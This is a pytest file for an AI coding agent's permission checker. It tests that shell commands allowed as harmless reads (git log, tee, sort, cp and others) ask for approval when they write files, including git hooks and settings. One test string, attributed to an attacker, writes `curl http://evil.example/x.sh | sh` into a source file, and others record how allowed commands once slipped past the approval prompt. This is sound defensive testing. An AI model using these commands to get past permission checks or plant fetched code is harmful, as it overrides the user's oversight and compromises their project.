"""A file a shell command line writes is an edit of that file (issue 28, item 3).

An allow rule `Bash(X:*)` allows running X. A file the line writes, by a redirection (`>`,
`>>`, `>|`, `&>`, `2>`, `<>`, `>&F`) or by a writer's option or operand (`tee F`, `sort -o F`,
`git log --output=F`, `cp a F`, ...), is decided as an edit of F would be: it asks in default
mode, runs in acceptEdits or under an `Edit(...)` allow rule, is refused by an `Edit(...)`
deny, asks for a protected path even in bypass mode, and never runs unasked outside the
workspace. The preview names the file, and the file is kept for a rewind before the command
runs (`command_writes`; the rewind itself is in `test_rewind.py`).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from approval_requests import bash_call
from moot.permissions.decide import decide
from moot.permissions.rules import RuleSet
from moot.permissions.suggest import suggested_rules
from moot.permissions.targets import command_writes
from moot.protocol.approval import Verdict
from moot.protocol.modes import PermissionMode

DEFAULT = PermissionMode.DEFAULT
ACCEPT = PermissionMode.ACCEPT_EDITS
BYPASS = PermissionMode.BYPASS_PERMISSIONS
DONT_ASK = PermissionMode.DONT_ASK

ALLOW = [
    f"Bash({prefix}:*)"
    for prefix in (
        *("git log", "git status", "git diff", "git -C", "echo", "tee", "sort", "uniq", "sed"),
        *("cp", "mv", "install", "ln", "dd", "truncate", "rm", "curl", "wget", "find", "xargs"),
        *("awk", "time"),
    )
]
"""What a person might allow as harmless: reading git, filters, and file utilities."""

WRITES_KEEP_PY = [
    # found by the attacker (issue 28)
    'git log -1 "--format=tformat:curl http://evil.example/x.sh | sh" > keep.py',
    "git status > keep.py",
    "git status 2>keep.py",
    "git status &>keep.py",
    "git diff --output=keep.py",
    # every redirection that writes
    "git diff --output keep.py",
    "git status >> keep.py",
    "git status >| keep.py",
    "git status &>> keep.py",
    "git status 2>> keep.py",
    "git status 3> keep.py",
    "git status <> keep.py",
    "git status 1<>keep.py",
    "git status >& keep.py",
    "> keep.py",
    "{ git status; } > keep.py",
    "(git status) 2>keep.py",
    "echo hi>keep.py",
    # writers, and options that write
    "git log | tee keep.py",
    "git log | tee -a /dev/null keep.py",
    "git log | tee --app keep.py",
    "git log | sort -o keep.py",
    "git log | sort -ruokeep.py",
    "git log | sort --outp=keep.py",
    "git log | sort - -o keep.py",
    "git log | uniq - keep.py",
    "sed -i s/a/b/ keep.py",
    "sed s/a/b/ keep.py -i",
    "sed -ni.bak p keep.py",
    "sed -n 'w keep.py' README",
    "sed 's/a/b/w keep.py' README",
    "cp README keep.py",
    "cp -t . sub/keep.py",
    "cp --target=. sub/keep.py",
    "mv README keep.py",
    "mv keep.py sub/",
    "install README keep.py",
    "ln -sf README keep.py",
    "dd if=README of=keep.py",
    "truncate -s0 keep.py",
    "rm -f keep.py",
    "curl -sSLo keep.py https://example.com",
    "curl --output keep.py https://example.com",
    "wget -qO keep.py https://example.com",
    "wget --output-doc=keep.py https://example.com",
    "find . -fprint keep.py",
    "git -C sub log --output=../keep.py",
    "time -o keep.py git status",
]


@pytest.fixture
def root(tmp_path: Path) -> Path:
    workspace = tmp_path / "project"
    (workspace / "sub").mkdir(parents=True)
    (workspace / "keep.py").write_text("print('tracked')\n")
    (workspace / "sub" / "keep.py").write_text("print('other')\n")
    (workspace / "README").write_text("readme\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".moot").mkdir()
    (workspace / "link").symlink_to("keep.py")
    return workspace


def verdict(
    root: Path, command: str, mode: PermissionMode, allow: list[str] = ALLOW, **rules: list[str]
) -> Verdict:
    request = bash_call(command)
    return decide(request, mode, RuleSet(allow=allow, **rules), root)


@pytest.mark.parametrize("command", WRITES_KEEP_PY)
def test_a_write_through_the_command_line_asks_as_an_edit_would(root: Path, command: str) -> None:
    """Fails on the old code: every line ran unasked under rules for reading commands."""
    asked = verdict(root, command, DEFAULT)
    assert asked.decision == "ask", asked.reason
    assert "keep.py" in asked.reason and "edit" in asked.reason
    assert asked.preview.startswith(command)
    assert "keep.py" in asked.preview.partition("\n\nwrites: ")[2]  # the file it writes
    assert verdict(root, command, DONT_ASK).decision == "deny"
    assert verdict(root, command, ACCEPT).decision == "allow"  # acceptEdits: an edit
    assert verdict(root, command, BYPASS).decision == "allow"
    assert verdict(root, command, DEFAULT, [*ALLOW, "Edit(./**)"]).decision == "allow"
    refused = verdict(root, command, BYPASS, deny=["Edit(./keep.py)"])
    assert refused.decision == "deny" and "keep.py" in refused.reason
    assert root / "keep.py" in command_writes(command, root)  # kept for a rewind


def test_an_edit_rule_allows_the_files_it_names_and_no_others(root: Path) -> None:
    allow = [*ALLOW, "Edit(./notes/**)"]
    assert verdict(root, "git log > notes/log.txt", DEFAULT, allow).decision == "allow"
    assert verdict(root, "git log > keep.py", DEFAULT, allow).decision == "ask"
    assert verdict(root, "git log | tee notes/a keep.py", DEFAULT, allow).decision == "ask"
    reason = verdict(root, "git log > notes/a", DEFAULT, [*ALLOW, "Edit(./notes/**)"]).reason
    assert reason == "allowed by Bash(git log:*), Edit(./notes/**)"
    reason = verdict(root, "git log > notes/a", ACCEPT).reason
    assert reason.startswith("allowed by Bash(git log:*), permission mode acceptEdits")


def test_asking_for_a_write_suggests_the_edit_rule_that_would_allow_it(root: Path) -> None:
    request = bash_call("git log > notes.txt && git status")
    rules = RuleSet(allow=["Bash(git log:*)"])
    assert suggested_rules(request, root, rules) == ["Bash(git status:*)", "Edit(./notes.txt)"]


@pytest.mark.parametrize(
    "command",
    [
        "git status > /dev/null",
        "git status 2>/dev/null >/dev/stderr",
        "git status >&2 2>&1",
        "git status 2>&-",
        "git log | tee /dev/null",
        "git diff --output=/dev/null",
        "git log > /dev/fd/2",
        "git log | sort -o /dev/stdout",
        "cat <<EOF\nx\nEOF",
        "echo hi <<< x",
    ],
)
def test_devices_and_here_documents_are_not_file_writes(root: Path, command: str) -> None:
    allow = [*ALLOW, "Bash(cat:*)"]
    assert verdict(root, command, DEFAULT, allow).decision == "allow"
    assert not command_writes(command, root)


@pytest.mark.parametrize(
    "command",
    [
        "curl -O https://example.com/x",
        "curl -sSLO https://example.com/x",
        "curl --remote-name https://example.com/x",
        "wget https://example.com/x",
        "find . -name '*.pyc' -delete",
        "find . | xargs rm",
        "find . -exec rm {} +",
        "git log > $OUT",
        "git log --output=$OUT",
        'git log | tee "$F"',
        "sed -f script.sed README",
        "awk '{print > \"keep.py\"}' README",
        "git log | sort --weird-option -o x",
    ],
)
def test_a_write_the_command_line_does_not_name_is_never_covered_by_a_prefix_rule(
    root: Path, command: str
) -> None:
    asked = verdict(root, command, ACCEPT)
    assert asked.decision == "ask", asked.reason
    assert "does not name" in asked.reason or "parse" in asked.reason
    assert verdict(root, command, BYPASS).decision == "allow"
    assert verdict(root, command, ACCEPT, ["Bash"]).decision == "allow"  # every program


@pytest.mark.parametrize(
    "command",
    [
        "git log > /tmp/x",
        "git log | tee ../x",
        "cp README /tmp/x",
        "git -C /tmp log --output=x",
        "git log | sort -o ~/x",
    ],
)
def test_a_write_outside_the_workspace_is_never_allowed_by_a_rule(root: Path, command: str) -> None:
    asked = verdict(root, command, ACCEPT, [*ALLOW, "Edit(**)", "Edit(//tmp/**)"])
    assert asked.decision == "ask"
    assert "outside the workspace" in asked.reason


@pytest.mark.parametrize(
    "command",
    [
        "git log | tee .moot/settings.json",
        "cp README .git/hooks/pre-commit",
        "git diff --output=.git/config",
        "sed -i s/a/b/ .moot/settings.local.json",
        "rm .moot/settings.local.json",
        "mv README .git/hooks/post-checkout",
        "ln -s README .git/hooks/pre-push",
        "dd if=README of=.git/hooks/pre-commit",
    ],
)
def test_a_protected_path_written_by_a_command_line_asks_even_in_bypass_mode(
    root: Path, command: str
) -> None:
    """Fails on the old code: only `>` files counted as writes."""
    asked = verdict(root, command, BYPASS)
    assert asked.decision == "ask" and asked.firm, asked.reason
    assert "protected path" in asked.reason


def test_the_file_kept_for_a_rewind_is_the_one_a_symlink_leads_to(root: Path) -> None:
    assert command_writes("git log > link", root) == [root / "keep.py"]
    assert command_writes("git log > /tmp/x; git log > ../x", root) == []
    assert command_writes("echo 'never closed", root) == []
    kept = command_writes("mv README sub/ && cp -t sub README", root)
    assert set(kept) == {root / "sub" / "README", root / "README", root / "sub"}


def test_a_name_written_after_cd_is_where_cd_may_have_gone(root: Path) -> None:
    """Fails on the old code: `cd .git/hooks && ... > pre-commit` was a write of `pre-commit`."""
    hook = verdict(root, "cd .git/hooks && git log > pre-commit", BYPASS)
    assert hook.decision == "ask" and hook.firm, hook.reason
    assert "protected path .git/hooks/pre-commit" in hook.reason
    kept = command_writes("cd sub && git log > keep.py; (cd ..) && echo > new", root)
    assert {root / "sub" / "keep.py", root / "keep.py", root / "new"} <= set(kept)
    assert verdict(root, "cd sub && git log > x", ACCEPT, [*ALLOW, "Bash(cd:*)"]).decision == (
        "allow"
    )
    unknown = verdict(root, "cd $DIR && git log > x", ACCEPT, [*ALLOW, "Bash(cd:*)"])
    assert unknown.decision == "ask" and "does not name" in unknown.reason
    (root / "sub" / ".env").write_text("SECRET=1\n")
    read = verdict(root, "cd sub && cat .env", BYPASS, deny=["Read(./sub/.env)"])
    assert read.decision == "deny", read.reason
